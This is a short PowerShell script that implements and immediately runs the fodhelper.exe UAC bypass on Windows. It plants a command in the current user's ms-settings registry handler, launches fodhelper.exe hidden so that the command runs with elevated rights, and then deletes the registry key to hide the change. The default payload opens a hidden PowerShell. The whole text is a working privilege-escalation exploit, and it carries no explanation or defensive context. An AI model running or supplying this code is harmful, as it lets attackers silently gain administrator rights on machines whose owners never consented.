function Invoke-FodBypass {
    param(
        [string]$Command = 'C:\Windows\System32\cmd.exe /c start powershell.exe -nop -w hidden'
    )
    $key = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
    New-Item -Path $key -Force | Out-Null
    New-ItemProperty -Path $key -Name 'DelegateExecute' -Value '' -Force | Out-Null
    Set-ItemProperty -Path $key -Name '(default)' -Value $Command -Force
    Start-Process -FilePath 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
    Start-Sleep -Seconds 3
    Remove-Item -Path 'HKCU:\Software\Classes\ms-settings\' -Recurse -Force
}

Invoke-FodBypass
